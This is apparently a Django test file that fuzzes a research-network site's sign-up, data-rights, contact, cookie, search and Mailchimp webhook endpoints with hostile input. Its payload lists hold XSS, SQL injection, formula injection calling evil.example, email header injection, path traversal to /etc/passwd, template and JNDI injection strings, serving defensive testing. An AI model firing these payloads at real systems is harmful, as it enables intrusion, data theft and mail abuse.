"""Hostile input to every public form and to Mailchimp's webhook.

Whatever a visitor or a forged webhook call sends, the site answers below
500, never echoes markup unescaped, and never stores a row that later
breaks a page: the admin listings and their exports, the public pages and
"Manage my data" are fetched again after the payloads.

Bodies are encoded by hand (UTF-8 with lone surrogates passed through, as a
broken client would send them) so that repeated fields, lists for single
values and invalid byte sequences reach the site as they would in the wild.
"""

from urllib.parse import quote

import pytest
from django.core import mail
from django.db import transaction
from django.test import Client
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from consent.models import ConsentRecord
from home.models import ContactPage
from newsletter.models import WebhookEvent
from people import services
from people.models import Person
from rights.models import DataSubjectRequest

pytestmark = pytest.mark.django_db

EMAIL = "ada.lovelace@example.org"
WEBHOOK_SECRET = "hostile-input-webhook-secret"
WEBHOOK = f"/newsletter/mailchimp/webhook/{WEBHOOK_SECRET}/"
AUDIENCE = "list0001"

# Markup that, echoed as is, would run in the visitor's browser.
SCRIPT = "<script>alert(1)</script>"
IMAGE = '"><img src=x onerror=alert(1)>'
ECHO_MARKERS = (SCRIPT.encode(), b"<img src=x onerror")

SAMPLES = [
    "",
    " ",
    "\x00",
    "Ada\x00Lovelace",
    "\x01\x02\x03\x07\x08\x0b\x0c\x1b[2J\x7f",
    "\x85\x9f",
    "line\u2028separator\u2029",
    "\u202eevil\u202c",
    "\u200e\u200f\u061c\u2066\u2069",
    "\ufeff\ufffd\uffff",
    "e\u0301\u0301\u0301\u0301\u0301",
    "Z\u0364\u0351\u0353a\u0308\u0356l\u036e\u0312g\u0337o",
    "\U0001f600\U0001f469\u200d\U0001f52c\U0001f1eb\U0001f1f7",
    "\uff21\uff24\uff21\u3000\uff2c\uff4f\uff56\uff45\uff4c\uff41\uff43\uff45",
    "\u0645\u0631\u062d\u0628\u0627 \u05e9\u05dc\u05d5\u05dd",
    "\ud800",
    "a\udfffb",
    SCRIPT,
    IMAGE,
    "javascript:alert(1)",
    "' OR 1=1 --",
    "'; DROP TABLE people_person; --",
    '" OR ""="',
    '=HYPERLINK("http://evil.example","x")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "x\r\nBcc: victim@example.org",
    "x\nSubject: hello",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "%s %d %n %x {0} {name} {{ }} {% if %}",
    "{{ settings.SECRET_KEY }}",
    "${jndi:ldap://evil.example/a}",
    "99999999999999999999",
    "-1",
    "0",
    "2147483647",
    "2147483648",
    "9223372036854775808",
    "1e308",
    "NaN",
    "on",
]

NUMBERS = st.one_of(
    st.sampled_from(["99999999999999999999", "-1", "0", "2147483648", "1.5", "1e3"]),
    st.integers(min_value=-(2**70), max_value=2**70).map(str),
)
SHORT_TEXT = st.text(st.characters(), max_size=40)
CONTROL_TEXT = st.text(
    st.sampled_from(
        list("\x00\x01\x07\t\n\r\x0b\x0c\x1b\x7f\x85\u2028\u202e\ufeff\ud800")
        + list("a <>&\"'%{}@.=")
    ),
    max_size=40,
)
# Some of them 100 KB long.
LONG_TEXT = st.builds(
    lambda chunk, times: chunk * times,
    st.sampled_from(["A", "\u00e9", "\U0001f600", "<b>", "\x00", "\u202e", "a\r\n"]),
    st.sampled_from([300, 5_001, 100_000]),
)
HOSTILE_TEXT = st.one_of(
    st.sampled_from(SAMPLES),
    SHORT_TEXT,
    CONTROL_TEXT,
    LONG_TEXT,
    st.tuples(st.sampled_from(SAMPLES), st.sampled_from(SAMPLES)).map("".join),
)
ODD_EMAILS = [
    "",
    '"',
    "a@[",
    "not-an-email",
    "a@b",
    "@example.org",
    "ada@",
    "ada@@example.org",
    '"ada lovelace"@example.org',
    '"a\\"b"@example.org',
    '"\x0b"@example.org',
    '"\x01\x1b"@example.org',
    "ada+tag@example.org",
    "ADA.LOVELACE@EXAMPLE.ORG",
    f" {EMAIL} ",
    "ada@[127.0.0.1]",
    "ada@[IPv6:2001:db8::1]",
    "ada@xn--bcher-kva.example",
    "ada@b\u00fccher.example",
    "\u7528\u6237@\u4f8b\u5b50.\u5e7f\u544a",
    "\uff41\uff44\uff41\uff20example.org",
    "a" * 64 + "@example.org",
    "a" * 65 + "@example.org",
    "a@" + "b" * 250 + ".org",
    f"{EMAIL}\r\nBcc: victim@example.org",
    f"{EMAIL}\x00",
    f"{EMAIL}\u202e",
    f"{EMAIL},bob@example.org",
    f"<script>@example.org{SCRIPT}",
    "' OR 1=1 --@example.org",
]
HOSTILE_EMAIL = st.one_of(
    st.sampled_from(ODD_EMAILS), st.emails().map(str), HOSTILE_TEXT
)
HOSTILE = st.one_of(HOSTILE_TEXT, HOSTILE_EMAIL, NUMBERS)


def mostly(good, bad):
    """``good`` three times in four, so that most forms get far enough to store."""
    return st.integers(min_value=0, max_value=3).flatmap(
        lambda pick: bad if pick == 0 else good
    )


def either(good, bad=HOSTILE):
    """A good value or a hostile one, half and half."""
    return st.booleans().flatmap(lambda pick: good if pick else bad)


@st.composite
def form_body(draw, fields):
    """(name, value) pairs: each field missing, once, or repeated, plus strays."""
    pairs = []
    for name, values in fields.items():
        count = draw(st.sampled_from([1, 1, 1, 1, 1, 0, 2, 3]))
        pairs.extend((name, draw(values)) for _ in range(count))
    if draw(st.integers(min_value=0, max_value=4)) == 0:
        pairs.append((draw(HOSTILE_TEXT.filter(lambda s: len(s) < 100)), draw(HOSTILE)))
    return pairs


def encode(pairs):
    """A form body as a careless client encodes it, lone surrogates included."""
    return "&".join(
        quote(str(name).encode("utf-8", "surrogatepass"), safe="")
        + "="
        + quote(str(value).encode("utf-8", "surrogatepass"), safe="")
        for name, value in pairs
    )


FORM = "application/x-www-form-urlencoded"
HONEYPOT = mostly(st.just(""), HOSTILE)
SETTINGS = settings(
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)


def fuzz(examples):
    return settings(SETTINGS, max_examples=examples)


def check(response):
    assert response.status_code < 500, response.status_code
    if response.get("Content-Type", "").startswith("text/html"):
        body = (
            b"".join(response.streaming_content)
            if response.streaming
            else response.content
        )
        for marker in ECHO_MARKERS:
            assert marker not in body, marker
    return response


def post(client, path, pairs, **extra):
    # One savepoint per payload: a database error cannot hide behind the
    # transaction of the test and spoil the next payloads.
    with transaction.atomic():
        return check(client.post(path, encode(pairs), content_type=FORM, **extra))


def get(client, path, pairs=()):
    with transaction.atomic():
        query = encode(pairs)
        return check(client.get(f"{path}?{query}" if query else path))


def read(response):
    assert response.status_code == 200, (response.status_code, response.get("Location"))
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


def admin_urls():
    """The admin listings that show stored rows, their exports, and each row."""
    lists = [
        "/admin/snippets/people/person/",
        "/admin/privacy/requests/",
        "/admin/consent-ledger/",
        "/admin/newsletter/sync/",
        "/admin/newsletter/webhooks/",
    ]
    urls = ["/admin/", "/admin/newsletter/overview/", "/admin/privacy/visits/"]
    for listing in lists:
        urls += [listing, f"{listing}?export=csv"]
    for listing in lists[:3]:
        urls.append(f"{listing}?export=xlsx")
    for contact in ContactPage.objects.all():
        submissions = f"/admin/forms/submissions/{contact.pk}/"
        urls += [submissions, f"{submissions}?export=csv", f"{submissions}?export=xlsx"]
    for pk in Person.objects.order_by("-pk").values_list("pk", flat=True)[:10]:
        people = "/admin/snippets/people/person/"
        urls += [f"{people}inspect/{pk}/", f"{people}edit/{pk}/"]
    for pk in DataSubjectRequest.objects.order_by("-pk").values_list("pk", flat=True)[
        :10
    ]:
        urls += [f"/admin/privacy/requests/edit/{pk}/"]
    for pk in ConsentRecord.objects.order_by("-pk").values_list("pk", flat=True)[:5]:
        urls += [f"/admin/consent-ledger/inspect/{pk}/"]
    return urls


PUBLIC_PAGES = [
    "/",
    "/privacy/",
    "/privacy/versions/",
    "/contact/",
    "/cookies/",
    "/register/",
    "/my-data/",
    "/privacy/request/",
    "/search/?query=privacy",
]


def assert_pages_still_answer(superuser):
    """Every page showing stored rows answers 200 to the DPO's superuser."""
    admin = Client()
    admin.force_login(superuser)
    for url in admin_urls():
        with transaction.atomic():
            read(admin.get(url))
    visitor = Client()
    for url in PUBLIC_PAGES:
        read(visitor.get(url))
    for person in Person.objects.all():
        person.full_clean(validate_constraints=False)
    for subject_request in DataSubjectRequest.objects.all():
        subject_request.full_clean()
    for message in mail.outbox:
        message.message()  # refuses a header with a line break


@pytest.fixture
def site(initial_data, settings):
    # The limits are counted per address and per IP; raised here so that
    # every payload reaches the form. (A separate test sends enough to be
    # throttled.)
    settings.FORM_RATES = {
        scope: (None if per_email is None else 10**6, 10**6, window)
        for scope, (per_email, per_ip, window) in settings.FORM_RATES.items()
    }
    settings.MAILCHIMP_WEBHOOK_SECRET = WEBHOOK_SECRET
    settings.MAILCHIMP_AUDIENCE_ID = AUDIENCE
    return initial_data


@pytest.fixture
def person(site):
    return services.register(
        full_name="Ada Lovelace",
        email=EMAIL,
        laboratory="LABGeM",
        address="2 rue Gaston Crémieux\r\nÉvry",
        country="FR",
        newsletter=True,
        confirmed=True,
    )


GOOD_NAME = st.sampled_from(["Ada Lovelace", "Ada", "Grace Hopper"])
GOOD_EMAIL = st.sampled_from([EMAIL, "grace@example.org", "bob@example.org"])
COUNTRY = either(st.sampled_from(["FR", "US", "fr", "ZZ", ""]))


def test_sign_up_survives_hostile_input(person, superuser):
    client = Client()

    @fuzz(45)
    @given(
        form_body(
            {
                "full_name": either(GOOD_NAME, HOSTILE_TEXT),
                "email": either(GOOD_EMAIL, HOSTILE_EMAIL),
                "laboratory": either(st.just("LABGeM"), HOSTILE_TEXT),
                "address": either(st.just("1 rue Ada\r\nParis"), HOSTILE_TEXT),
                "country": COUNTRY,
                "newsletter": either(st.just("on")),
                "website": HONEYPOT,
            }
        )
    )
    def sign_up(pairs):
        post(client, "/register/", pairs)

    sign_up()
    assert_pages_still_answer(superuser)


def test_manage_my_data_survives_hostile_input(person, superuser):
    client = Client()

    @fuzz(20)
    @given(form_body({"email": HOSTILE_EMAIL, "website": HONEYPOT}))
    def ask_for_a_link(pairs):
        post(client, "/my-data/", pairs)

    ask_for_a_link()
    mail.outbox = []
    client.post("/my-data/", {"email": EMAIL})
    link = next(
        word for word in mail.outbox[-1].body.split() if "/my-data/open/" in word
    )
    assert client.post(link.replace("http://testserver", "")).status_code == 302

    @fuzz(35)
    @given(
        st.sampled_from(["correct", "restrict", "newsletter"]),
        form_body(
            {
                "full_name": either(GOOD_NAME, HOSTILE_TEXT),
                "email": either(st.just(EMAIL), HOSTILE_EMAIL),
                "laboratory": either(st.just("LABGeM"), HOSTILE_TEXT),
                "address": either(st.just("1 rue Ada"), HOSTILE_TEXT),
                "country": COUNTRY,
                "restrict": either(st.sampled_from(["0", "1"])),
                "subscribe": either(st.sampled_from(["0", "1"])),
            }
        ),
    )
    def act(page, pairs):
        post(client, f"/my-data/me/{page}/", pairs)

    act()
    # An erasure request that does not confirm keeps the record. (A checkbox
    # counts as ticked whatever it sends, "false" aside, as browsers send "on".)
    for value in ["", "false", "FALSE"]:
        response = post(client, "/my-data/me/erase/", [("confirm", value)])
        assert response.status_code == 400, value
    assert Person.objects.filter(pk=person.pk).exists()
    for url in (
        "/my-data/me/",
        "/my-data/me/download.json",
        "/my-data/me/download.csv",
    ):
        read(client.get(url))
    assert_pages_still_answer(superuser)


def test_the_request_form_survives_hostile_input(person, superuser):
    client = Client()

    @fuzz(40)
    @given(
        form_body(
            {
                "kind": either(
                    st.sampled_from(["access", "objection", "erasure", "other"])
                ),
                "full_name": either(GOOD_NAME, HOSTILE_TEXT),
                "email": either(GOOD_EMAIL, HOSTILE_EMAIL),
                "message": either(st.just("Please.\r\nThanks."), HOSTILE_TEXT),
                "website": HONEYPOT,
            }
        ),
        form_body({"kind": HOSTILE}),
    )
    def ask(pairs, query):
        post(client, "/privacy/request/", pairs)
        get(client, "/privacy/request/", query)

    ask()
    assert_pages_still_answer(superuser)


def test_the_contact_form_survives_hostile_input(site, superuser):
    client = Client()

    @fuzz(40)
    @given(
        form_body(
            {
                "your_name": either(GOOD_NAME, HOSTILE_TEXT),
                "email": either(GOOD_EMAIL, HOSTILE_EMAIL),
                "message": either(st.just("Hello.\r\nBye."), HOSTILE_TEXT),
                "topic": either(
                    st.sampled_from(["general", "account", "data_protection"])
                ),
                "website": HONEYPOT,
            }
        ),
        form_body({"topic": HOSTILE}),
    )
    def write(pairs, query):
        post(client, "/contact/", pairs)
        get(client, "/contact/", query)

    write()
    assert_pages_still_answer(superuser)


def test_the_cookie_settings_survive_hostile_input(site, superuser):
    @fuzz(35)
    @given(
        form_body(
            {
                "action": either(
                    st.sampled_from(["accept", "refuse", "custom", "choose", "gpc"])
                ),
                "groups": either(st.sampled_from(["analytics", "necessary"])),
                "source": either(st.sampled_from(["banner", "preferences"])),
                "next": either(st.sampled_from(["/", "/privacy/", "//evil.example"])),
                "gpc": either(st.just("on")),
            }
        ),
        st.sampled_from(["text/html", "application/json"]),
    )
    def decide(pairs, accept):
        # A new visitor each time: every payload is a first decision.
        post(Client(), "/cookies/", pairs, headers={"Accept": accept})

    decide()
    assert_pages_still_answer(superuser)


def test_search_and_the_notice_comparison_survive_hostile_queries(site, superuser):
    client = Client()

    @fuzz(25)
    @given(
        form_body({"query": HOSTILE, "page": either(NUMBERS)}),
        form_body({"old": either(NUMBERS), "new": either(NUMBERS)}),
    )
    def ask(search, compare):
        get(client, "/search/", search)
        get(client, "/privacy/versions/changes/", compare)

    ask()
    assert_pages_still_answer(superuser)


TOKENS = st.one_of(
    HOSTILE_TEXT.filter(lambda text: 0 < len(text) < 2000),
    st.sampled_from(["x", "a" * 5000, "eyJ.abc:def", "..", "%00", "1:2:3:4"]),
)


def test_token_links_survive_hostile_tokens(person):
    client = Client()

    @fuzz(20)
    @given(
        TOKENS, st.sampled_from(["register/confirm", "my-data/email", "my-data/open"])
    )
    def follow(token, route):
        path = f"/{route}/{quote(token.encode('utf-8', 'surrogatepass'), safe='')}/"
        with transaction.atomic():
            check(client.get(path))
        post(client, path, [])

    follow()
    assert Person.objects.get(pk=person.pk).email == EMAIL


FIRED_AT = either(
    st.sampled_from(
        [
            "2026-11-26 10:00:00",
            "2099-12-31 23:59:59",
            "1970-01-01 00:00:00",
            "0000-00-00 00:00:00",
            "2026-02-30 10:00:00",
            "2026-11-26T10:00:00Z",
            "9999-12-31 23:59:59",
        ]
    )
)


def test_the_mailchimp_webhook_survives_hostile_events(person, superuser):
    client = Client()

    @fuzz(60)
    @given(
        mostly(st.just(WEBHOOK_SECRET), st.sampled_from(["wrong", "%00", "..", "x"])),
        form_body(
            {
                "type": either(
                    st.sampled_from(["unsubscribe", "cleaned", "profile", "upemail"])
                ),
                "fired_at": FIRED_AT,
                "data[list_id]": mostly(st.just(AUDIENCE), HOSTILE),
                "data[email]": either(st.just(EMAIL), HOSTILE_EMAIL),
                "data[old_email]": either(st.just(EMAIL), HOSTILE_EMAIL),
                "data[new_email]": either(GOOD_EMAIL, HOSTILE_EMAIL),
                "data[merges][FNAME]": either(GOOD_NAME, HOSTILE_TEXT),
                "data[merges][LNAME]": either(st.just("Lovelace"), HOSTILE_TEXT),
                "data[merges][LAB]": either(st.just("LABGeM"), HOSTILE_TEXT),
                "data[merges][COUNTRY]": COUNTRY,
            }
        ),
    )
    def deliver(secret, pairs):
        post(client, f"/newsletter/mailchimp/webhook/{secret}/", pairs)

    deliver()
    assert WebhookEvent.objects.exists()
    assert_pages_still_answer(superuser)


def test_huge_and_crowded_bodies_are_refused_without_error(person):
    client = Client()
    huge = encode([("type", "profile"), ("data[email]", EMAIL), ("x", "A" * 3_000_000)])
    crowded = encode([("type", "unsubscribe")] + [("data[email]", EMAIL)] * 10_001)
    for path in (WEBHOOK, "/register/", "/privacy/request/", "/my-data/", "/contact/"):
        for body in (huge, crowded):
            with transaction.atomic():
                response = client.post(path, body, content_type=FORM)
            assert response.status_code == 400, path
    assert Person.objects.get(pk=person.pk).newsletter_consent == "given"


def test_throttled_forms_answer_429_to_hostile_input(initial_data):
    client = Client()
    statuses = set()
    for _ in range(12):
        body = [("full_name", SCRIPT), ("email", f"{EMAIL}\x00"), ("website", "")]
        statuses.add(post(client, "/register/", body).status_code)
    assert statuses == {200, 429}
